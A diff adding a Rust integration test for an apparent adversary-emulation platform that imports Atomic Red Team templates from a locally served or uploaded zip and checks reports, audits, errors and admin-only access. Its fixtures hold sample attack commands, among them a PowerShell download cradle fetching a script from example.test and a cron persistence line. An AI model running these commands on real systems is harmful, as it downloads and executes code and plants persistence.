@@ -1,0 +1,252 @@
+//! Importing Atomic Red Team as a background job: from the project's archive (served here by a
+//! local stand-in for GitHub, as a zip built in the test) and from an uploaded zip; a corrupt
+//! archive fails clearly and changes nothing; uploads during an import are refused.
+use crate::common::{Backend, TestApp, json_body, wait_for_run};
+use crate::for_each_backend;
+use axum::Router;
+use axum::routing::get;
+use serde_json::Value;
+use std::io::Write;
+use std::path::PathBuf;
+
+for_each_backend!(atomics_import_from_archive_and_upload);
+
+const BUNDLE: &str = include_str!("../fixtures/attack-mini.json");
+
+const POWERSHELL: &str = r#"attack_technique: T1059.001
+display_name: PowerShell
+atomic_tests:
+- name: Download cradle
+  auto_generated_guid: f3132740-55bc-48c4-bcc0-758a459cd027
+  description: Downloads and runs a script.
+  supported_platforms: [windows]
+  input_arguments:
+    url:
+      description: Where from
+      type: url
+      default: https://example.test/a.ps1
+  executor:
+    name: powershell
+    command: IEX (iwr '#{url}')
+- name: Encoded command
+  auto_generated_guid: 0f2c5a7e-7b4f-4c3a-9a55-2d7c3c1b9e01
+  description: Runs an encoded command.
+  supported_platforms: [windows]
+  executor:
+    name: command_prompt
+    command: powershell -enc ZQBjAGgAbwA=
+"#;
+
+const CRON: &str = r#"attack_technique: T1053
+display_name: Scheduled Task/Job
+atomic_tests:
+- name: Cron job
+  auto_generated_guid: 5f1d6c1a-1111-4c3a-9a55-2d7c3c1b9e02
+  description: Adds a cron job.
+  supported_platforms: [linux]
+  executor:
+    name: sh
+    command: echo '* * * * * id' | crontab -
+"#;
+
+/// A zip laid out like GitHub's archive of the repository, with files Aegis must not read.
+fn archive(files: &[(&str, &str)]) -> Vec<u8> {
+    let mut buffer = std::io::Cursor::new(Vec::new());
+    {
+        let mut zip = zip::ZipWriter::new(&mut buffer);
+        let options = zip::write::SimpleFileOptions::default()
+            .compression_method(zip::CompressionMethod::Deflated);
+        zip.add_directory("atomic-red-team-master/", options)
+            .unwrap();
+        zip.start_file("atomic-red-team-master/README.md", options)
+            .unwrap();
+        zip.write_all(b"# Atomic Red Team").unwrap();
+        zip.start_file("atomic-red-team-master/atomics/Indexes/index.yaml", options)
+            .unwrap();
+        zip.write_all(b"not: an atomic").unwrap();
+        for (path, text) in files {
+            zip.start_file(format!("atomic-red-team-master/{path}"), options)
+                .unwrap();
+            zip.write_all(text.as_bytes()).unwrap();
+        }
+        zip.finish().unwrap();
+    }
+    buffer.into_inner()
+}
+
+/// Serves `/archive.zip` with the given bytes.
+async fn serve_archive(bytes: Vec<u8>) -> std::net::SocketAddr {
+    let router = Router::new().route(
+        "/archive.zip",
+        get(move || {
+            let bytes = bytes.clone();
+            async move { bytes }
+        }),
+    );
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let addr = listener.local_addr().unwrap();
+    tokio::spawn(async move {
+        let _ = axum::serve(listener, router).await;
+    });
+    addr
+}
+
+async fn templates_total(app: &TestApp, token: &str) -> u64 {
+    json_body(app.get("/api/v1/test-templates?limit=500", token).await).await["total"]
+        .as_u64()
+        .unwrap()
+}
+
+async fn start_import(app: &TestApp, token: &str, form: Option<reqwest::multipart::Form>) -> Value {
+    let mut request = app.request(
+        reqwest::Method::POST,
+        "/api/v1/system/import-atomic-red-team",
+        Some(token),
+    );
+    if let Some(form) = form {
+        request = request.multipart(form);
+    }
+    let response = request.send().await.unwrap();
+    let status = response.status().as_u16();
+    let body = json_body(response).await;
+    assert_eq!(status, 202, "{body}");
+    body
+}
+
+fn upload_form(name: &str, bytes: Vec<u8>) -> reqwest::multipart::Form {
+    reqwest::multipart::Form::new().part(
+        "file",
+        reqwest::multipart::Part::bytes(bytes).file_name(name.to_owned()),
+    )
+}
+
+fn upload_dir() -> PathBuf {
+    std::env::temp_dir().join("aegis-atomics-uploads")
+}
+
+async fn atomics_import_from_archive_and_upload(backend: Backend) {
+    let good = serve_archive(archive(&[
+        ("atomics/T1059.001/T1059.001.yaml", POWERSHELL),
+        ("atomics/T1053/T1053.yaml", CRON),
+    ]))
+    .await;
+    let app = TestApp::start_with(
+        backend,
+        &[(
+            "AEGIS_ATOMICS_ARCHIVE_URL",
+            format!("http://{good}/archive.zip"),
+        )],
+    )
+    .await;
+    let admin = app.admin_token().await;
+    app.import_bundle(&admin, "bundle.json", BUNDLE.as_bytes().to_vec())
+        .await;
+
+    // From the archive (no body): a job with progress and a report.
+    let enqueued = start_import(&app, &admin, None).await;
+    assert_eq!(enqueued["job"], "atomics_import");
+    let run = wait_for_run(&app, &admin, enqueued["job_id"].as_str().unwrap()).await;
+    assert_eq!(run["status"], "succeeded", "{run}");
+    assert_eq!(
+        run["result"]["source"],
+        format!("archive:http://{good}/archive.zip")
+    );
+    let report = &run["result"]["report"];
+    assert_eq!(
+        report["files"], 2,
+        "only atomics/<T-id>/T*.yaml is read: {report}"
+    );
+    assert_eq!(report["added"], 3);
+    assert_eq!(templates_total(&app, &admin).await, 3);
+    // Runs are audited with their source.
+    let audit = json_body(app.get("/api/v1/audit-logs?action=job.run", &admin).await).await;
+    assert_eq!(audit["items"][0]["after"]["params"]["source"], "archive");
+
+    // Again from an upload of the same content: nothing changes, and the file is gone after.
+    let enqueued = start_import(
+        &app,
+        &admin,
+        Some(upload_form(
+            "atomics.zip",
+            archive(&[
+                ("atomics/T1059.001/T1059.001.yaml", POWERSHELL),
+                ("atomics/T1053/T1053.yaml", CRON),
+            ]),
+        )),
+    )
+    .await;
+    let run = wait_for_run(&app, &admin, enqueued["job_id"].as_str().unwrap()).await;
+    assert_eq!(run["status"], "succeeded", "{run}");
+    assert_eq!(run["result"]["source"], "upload:atomics.zip");
+    assert_eq!(run["result"]["report"]["unchanged"], 3);
+    assert_eq!(run["result"]["report"]["added"], 0);
+    let file = run["params"]["file"].as_str().unwrap();
+    assert!(
+        !upload_dir().join(file).exists(),
+        "uploads are removed after their import"
+    );
+
+    // A corrupt archive: the run fails with a clear error and the catalog is untouched.
+    let enqueued = start_import(
+        &app,
+        &admin,
+        Some(upload_form(
+            "broken.zip",
+            b"PK\x03\x04 this is not a zip".to_vec(),
+        )),
+    )
+    .await;
+    let run = wait_for_run(&app, &admin, enqueued["job_id"].as_str().unwrap()).await;
+    assert_eq!(run["status"], "failed", "{run}");
+    assert!(
+        run["error"].as_str().unwrap().contains("zip archive"),
+        "{run}"
+    );
+    assert_eq!(templates_total(&app, &admin).await, 3);
+
+    // A zip without atomics says so.
+    let enqueued = start_import(&app, &admin, Some(upload_form("empty.zip", archive(&[])))).await;
+    let run = wait_for_run(&app, &admin, enqueued["job_id"].as_str().unwrap()).await;
+    assert_eq!(run["status"], "failed");
+    assert!(
+        run["error"].as_str().unwrap().contains("no atomics"),
+        "{run}"
+    );
+
+    // Only admins; a multipart body without a file is a field error.
+    app.create_user(&admin, "redtech", "red_tech", "red-tech-password")
+        .await;
+    let red = app.login("redtech", "red-tech-password").await;
+    let response = app
+        .request(
+            reqwest::Method::POST,
+            "/api/v1/system/import-atomic-red-team",
+            Some(&red),
+        )
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(response.status(), 403);
+    let response = app
+        .request(
+            reqwest::Method::POST,
+            "/api/v1/system/import-atomic-red-team",
+            Some(&admin),
+        )
+        .multipart(reqwest::multipart::Form::new().text("other", "x"))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(response.status(), 422);
+
+    // The job history lists every import, newest first.
+    let runs = json_body(app.get("/api/v1/system/jobs", &admin).await).await;
+    let imports: Vec<&Value> = runs
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|r| r["job"] == "atomics_import")
+        .collect();
+    assert_eq!(imports.len(), 4);
+    app.finish().await;
+}
